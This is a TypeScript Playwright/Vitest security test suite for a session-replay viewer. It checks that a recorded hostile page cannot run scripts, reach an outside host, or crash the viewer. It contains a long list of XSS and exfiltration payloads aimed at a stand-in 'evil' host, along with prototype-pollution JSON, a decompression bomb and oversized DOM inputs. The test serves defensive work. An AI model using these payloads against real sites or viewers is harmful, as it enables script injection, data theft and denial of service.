import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { deflateRawSync } from "node:zlib";
import type { BrowserContext, Page } from "playwright-core";
import { expect, onTestFinished, test } from "vitest";
import { newPerson, useBrowser } from "../support/browser.ts";
import { useDesk } from "../support/desk.ts";
import { openHost } from "../support/hosts.ts";
import { added, el, type Made, mutation, say, snapshot, svg } from "../support/replayed.ts";
import { openViewer, type ViewerHost, viewerOrigin } from "../support/viewer.ts";

const browser = useBrowser();
const desk = useDesk();

/** Sets a flag wherever it runs: in the page, in what frames it, in what it frames. */
const RUNS = "try { top.ran = 1 } catch {} window.ran = 1; parent.ran = 1; fetch('/ran')";

/** What attackers put into pages, each as elements; what gets out reaches `evil`. */
function traps(evil: string): Made[] {
  return [
    el("script", {}, [say(RUNS)]),
    el("script", { src: `${evil}/a.js` }),
    el("noscript", {}, [el("img", { src: `${evil}/noscript` })]),
    el("img", {
      src: `${evil}/handler`,
      onerror: RUNS,
      ONLOAD: RUNS,
      srcset: `${evil}/set 1x, ${evil}/set2 2x`,
    }),
    el("img", { src: "data:text/html,<script>parent.ran=1</script>", rr_dataURL: `${evil}/rr` }),
    el("body", { onload: RUNS, onpageshow: RUNS, background: `${evil}/body` }),
    el(
      "a",
      { href: `javascript:${RUNS}`, ping: `${evil}/ping`, onclick: RUNS, autofocus: true, onfocus: RUNS },
      [say("link")],
    ),
    el("a", { href: `  java\tscript:${RUNS}`, target: "_top" }, [say("spaced")]),
    el("a", { href: `vbscript:${RUNS}` }, [say("basic")]),
    el("meta", { "http-equiv": "refresh", content: `0;url=${evil}/refresh` }),
    el("meta", { "http-equiv": "Content-Security-Policy", content: "default-src *" }),
    el("meta", { name: "referrer", content: "unsafe-url" }),
    el("base", { href: `${evil}/`, target: "_top" }),
    el("link", { rel: "stylesheet", href: `${evil}/style.css` }),
    el("link", { rel: "prefetch", href: `${evil}/prefetch` }),
    el("link", { rel: "preload", as: "image", href: `${evil}/preload`, imagesrcset: `${evil}/preset` }),
    el("link", { rel: "dns-prefetch", href: evil }),
    el("link", { rel: "modulepreload", href: `${evil}/module.js` }),
    el("link", { rel: "manifest icon", href: `${evil}/icon` }),
    el("form", { action: `${evil}/form`, method: "post", target: "_top" }, [
      el("input", { name: "q", value: "v", autofocus: true, onfocus: RUNS }),
      el("button", { type: "submit", formaction: `javascript:${RUNS}` }, [say("send")]),
      el("input", { type: "image", src: `${evil}/image` }),
    ]),
    el("iframe", { src: `${evil}/frame`, srcdoc: `<script>${RUNS}</script>`, sandbox: "allow-scripts" }),
    el("iframe", { src: `javascript:${RUNS}`, rr_src: `${evil}/rr-frame` }),
    el("frameset", {}, [el("frame", { src: `${evil}/frameset` })]),
    el("object", { data: `${evil}/object`, type: "text/html" }),
    el("object", { data: `data:text/html,<script>${RUNS}</script>` }),
    el("embed", { src: `${evil}/embed` }),
    el("applet", { archive: `${evil}/applet`, code: "x" }),
    el("portal", { src: `${evil}/portal` }),
    el("fencedframe", { src: `${evil}/fenced` }),
    el("video", { src: `${evil}/video`, poster: `${evil}/poster`, autoplay: true, onloadstart: RUNS }, [
      el("source", { src: `${evil}/source`, onerror: RUNS }),
      el("track", { src: `${evil}/track`, default: true }),
    ]),
    el("audio", { src: `${evil}/audio`, autoplay: true, rr_mediaState: "played" }),
    el("details", { open: true, ontoggle: RUNS }, [say("more")]),
    el("div", { style: `background: url(${evil}/style)`, attributionsrc: `${evil}/attribution` }),
    el("style", { _cssText: `@import url(${evil}/import.css); body { background: url(${evil}/css) }` }),
    el("style", {}, [
      say(`input[value^="v"] { list-style-image: url(${evil}/leak-v) } @font-face {
      font-family: x; src: url(${evil}/font) } p { font-family: x }`),
    ]),
    el("p", {}, [say("with a font")]),
    el("table", { background: `${evil}/table` }),
    svg("svg", { onload: RUNS }, [
      svg("script", { "xlink:href": `data:text/javascript,${RUNS}` }, [say(RUNS)]),
      svg("use", {
        href: `${evil}/use.svg#x`,
        "xlink:href": "data:image/svg+xml,<svg id='x' onload='parent.ran=1'/>#x",
      }),
      svg("image", { href: `${evil}/svg-image`, "xlink:href": `${evil}/svg-xlink` }),
      svg("a", { "xlink:href": `javascript:${RUNS}` }, [
        svg("animate", { attributeName: "href", to: `javascript:${RUNS}`, onbegin: RUNS, begin: "0s" }),
        svg("set", { attributeName: "xlink:href", to: `javascript:${RUNS}` }),
      ]),
      svg("foreignObject", {}, [el("iframe", { srcdoc: `<script>${RUNS}</script>` })]),
      svg("feImage", { href: `${evil}/feimage` }),
    ]),
    el("math", { href: `javascript:${RUNS}` }, [el("mtext", { "xlink:href": `javascript:${RUNS}` })]),
    el("x-evil", { is: "x-evil", onclick: RUNS }),
    {
      ...el("x-host", {}, [{ ...el("img", { src: `${evil}/shadow`, onerror: RUNS }), isShadow: true }]),
      isShadowHost: true,
    },
    { ...el("img", {}, [{ ...el("p"), isShadow: true }]), isShadowHost: true },
    { ...el("font-face", {}), isCustom: true },
    { ...el("div"), type: 0 } as Made,
    { id: 900_001, type: 1, name: "a b<>", publicId: "", systemId: "" },
    { id: 900_002, type: 4, textContent: "cdata" },
    el("canvas", { width: "100000000", height: "100000000", rr_dataURL: `${evil}/canvas` }),
    el("a b", { "<script>": "1", "": "2", "x=y": "3", [`on${"x".repeat(50)}`]: RUNS }),
  ];
}

/** As JSON text: an object in a program would lose some of it. */
const POLLUTION = `[{"type":3,"timestamp":9,"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},
  "data":{"source":0,"__proto__":{"polluted":1},"adds":[{"parentId":5,"nextId":null,"__proto__":{"polluted":1},
  "node":{"id":"__proto__","type":2,"tagName":"__proto__","attributes":{"__proto__":"x"},"childNodes":[]}},
  {"parentId":5,"nextId":null,"node":{"id":900100,"type":2,"tagName":"constructor","attributes":
  {"__proto__":{"polluted":1},"constructor":"x","src":"x"},"childNodes":[]}}],"removes":[{"id":"__proto__","parentId":1}],
  "texts":[],"attributes":[{"id":5,"attributes":{"__proto__":"y","style":{"__proto__":["a","b"],"color":"red"}}}]}}]`;

const garbage = (evil: string): unknown[] => [
  null,
  7,
  "x",
  [],
  {},
  { type: 3 },
  { type: 2, data: { node: { type: 2, id: 1 } } },
  { type: 2, data: { node: null } },
  { type: 3, data: { source: 99 } },
  { type: 3, data: { source: 0, adds: "x", removes: {}, texts: 5, attributes: [null, 1] } },
  { type: 3, data: { source: 1, positions: [{ x: "a", y: null, id: 5 }] } },
  { type: 3, data: { source: 3, id: 5, x: 1e300, y: "no" } },
  { type: 3, data: { source: 4, width: 1e12, height: -4 } },
  { type: 3, data: { source: 8, id: 5, adds: [{ rule: "x{", index: [1e9] }] } },
  { type: 3, data: { source: 9, id: 5, type: 0, property: "drawImage", args: ["x"] } },
  { type: 3, data: { source: 10, family: "x", fontSource: `url(${evil}/font-face)`, buffer: false } },
  { type: 3, data: { source: 13, id: 5, index: [0], set: { property: "x y", value: {} } } },
  { type: 3, data: { source: 14, ranges: [{ start: 5, startOffset: 1e6, end: 5, endOffset: -1 }] } },
  {
    type: 3,
    data: { source: 15, id: 1, styleIds: [1, "x"], styles: [{ styleId: 1, rules: [{ rule: "}" }] }] },
  },
  { type: 5, data: { tag: "palique:page", payload: { url: `javascript:${RUNS}`, title: { a: 1 } } } },
  { type: 5, data: { tag: "palique:canvas", payload: { id: 5, image: `${evil}/canvas-news` } } },
  { type: 5, data: { tag: "palique:image", payload: { id: 5, image: `javascript:${RUNS}` } } },
  {
    type: 5,
    data: { tag: "palique:font", payload: { family: "x", font: `${evil}/font-news`, descriptors: [] } },
  },
  { type: 6, data: { plugin: "rrweb/console@1", payload: {} } },
];

/** Everything the browser asks for, from now on. */
function listenForRequests(context: BrowserContext): string[] {
  const asked: string[] = [];
  context.on("request", (request) => asked.push(request.url()));
  return asked;
}

async function ran(page: Page): Promise<unknown[]> {
  const flags = await Promise.all(
    page.frames().map((frame) =>
      frame
        .evaluate(() => [Reflect.get(window, "ran"), Reflect.get({}, "polluted")])
        // No scripts run in there, not even ours.
        .catch(() => []),
    ),
  );
  return flags.flat().filter((flag) => flag !== undefined && flag !== null);
}

/** A page that is well draws, and what frames it answers. */
async function drawsWell(host: ViewerHost, words: string): Promise<void> {
  await host.frames(snapshot([el("h1", {}, [say(words)])]), { full: true });
  await host.shown.getByText(words).waitFor();
}

test("nothing of a hostile page runs or leaves, and a good one is drawn after it", async () => {
  const context = await newPerson(browser());
  const page = await context.newPage();
  const shop = await openHost({ page: () => "" });
  const reached: string[] = [];
  const { url: evil } = await openHost({
    page: (path) => {
      reached.push(path);
      return "";
    },
  });
  const host = await openViewer(page, desk().server, { from: [shop.url] });
  await drawsWell(host, "before");
  const asked = listenForRequests(context);
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => void dialogs.push(dialog.message()));

  await host.frames(snapshot(traps(evil), traps(evil)), { full: true });
  await host.shown.getByText("with a font").first().waitFor();
  // One by one too: what is added later takes another way.
  await host.frames(traps(evil).map((trap) => added(trap)));
  const late = el("img", {});
  const frame = el("iframe", {});
  const inner = { id: 900_200, type: 0, childNodes: [el("html", {}, [el("body", {}, traps(evil))])] };
  await host.frames([
    added(late),
    added(frame),
    added(inner, frame.id),
    mutation({
      attributes: [
        { id: late.id, attributes: { src: `javascript:${RUNS}`, onerror: RUNS, srcdoc: RUNS } },
        { id: frame.id, attributes: { src: `${evil}/late`, srcdoc: `<script>${RUNS}</script>` } },
        { id: 5, attributes: { onclick: RUNS, style: { background: `url(${evil}/late-style)` } } },
      ],
    }),
  ]);
  await host.frames(Buffer.from(POLLUTION), { packed: false });
  await host.frames(garbage(evil));
  await host.shown.locator("iframe").first().waitFor({ state: "attached" });
  // A click on everything, as far as clicks get.
  for (const place of [100, 300, 500]) await page.mouse.click(place, place);
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  await page.waitForTimeout(500);

  expect(await ran(page)).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(reached).toEqual([]);
  // Those to the evil host are among them: the policy stops them on their way out.
  const allowed = [evil, viewerOrigin(desk().server), shop.url, "data:", "blob:", "about:"];
  expect(asked.filter((url) => !allowed.some((start) => url.startsWith(start)))).toEqual([]);
  expect(
    await host.shown.locator("script, base, object, embed, frame, [srcdoc], [onclick], [onerror]").count(),
  ).toBe(0);
  const sandbox = await host.frame.locator("iframe").getAttribute("sandbox");
  expect(sandbox).toBe("allow-same-origin");
  await drawsWell(host, "after");
});

test("what a page shows is fetched without the operator's cookies", async () => {
  const context = await newPerson(browser());
  const page = await context.newPage();
  const cookies: (string | undefined)[] = [];
  const shop = createServer((request, response) => {
    cookies.push(request.headers.cookie);
    response.writeHead(200, { "content-type": "image/png" }).end();
  });
  await new Promise<void>((done) => shop.listen(0, "127.0.0.1", done));
  onTestFinished(() => void shop.close());
  const url = `http://localhost:${(shop.address() as AddressInfo).port}`;
  // Cookies do not know ports: on one machine name the console's would go to the shop too.
  await context.addCookies([{ name: "session", value: "secret", url }]);
  const host = await openViewer(page, desk().server, { from: [url] });
  await host.frames(snapshot([el("img", { src: `${url}/shoe.png` })]), { full: true });
  await expect.poll(() => cookies).toEqual([undefined]);
});

test("pages too deep, too large or too long are cut, and what frames them stays alive", async () => {
  const context = await newPerson(browser());
  const page = await context.newPage();
  const host = await openViewer(page, desk().server);
  await drawsWell(host, "before");

  const deep = `${'{"id":ID,"type":2,"tagName":"div","attributes":{},"childNodes":['.repeat(50_000)}${"]}".repeat(50_000)}`;
  let id = 100;
  const numbered = deep.replace(/ID/g, () => String(id++));
  const [size, full] = snapshot([]).map((event) => JSON.stringify(event)) as [string, string];
  const nested = full.replace(
    '"tagName":"body","attributes":{},"childNodes":[]',
    `"tagName":"body","attributes":{},"childNodes":[${numbered}]`,
  );
  await host.frames(Buffer.from(deflateRawSync(`[${size},${nested}]`)), { full: true });
  await drawsWell(host, "after depth");

  // Depth by moving: a chain below itself, and one that grows a level at a time.
  const chain = Array.from({ length: 3_000 }, (_, level) =>
    added(
      { id: 200_000 + level, type: 2, tagName: "div", attributes: {}, childNodes: [] },
      level === 0 ? 5 : 199_999 + level,
    ),
  );
  await host.frames([
    ...chain,
    added({ id: 200_000, type: 2, tagName: "div", attributes: {}, childNodes: [] }, 200_400),
  ]);
  await drawsWell(host, "after growth");

  const wide = Array.from({ length: 100_000 }, (_, place) => ({
    ...el("i"),
    id: 300_000 + place,
  }));
  await host.frames(snapshot(wide), { full: true });
  await host.frames(snapshot([say("x".repeat(20_000_000))]), { full: true });
  await host.frames(snapshot([], [el("style", { _cssText: "a:hover{color:red}".repeat(100_000) })]), {
    full: true,
  });
  await drawsWell(host, "after size");

  const lost = (await host.told("lost")).length;
  const bomb = deflateRawSync(Buffer.alloc(300_000_000), { level: 9 });
  expect(bomb.byteLength).toBeLessThan(400_000);
  await host.frames(bomb);
  await host.frames(Buffer.from("not deflated at all"));
  await host.frames(Buffer.from("[{]"), { packed: false });
  await drawsWell(host, "after the bomb");
  // Each is lost, and the visitor's browser is not asked for a picture each time.
  expect((await host.told("lost")).length - lost).toBeLessThanOrEqual(1);
  expect(await page.evaluate(() => document.title)).toBe("Host");
}, 90_000);
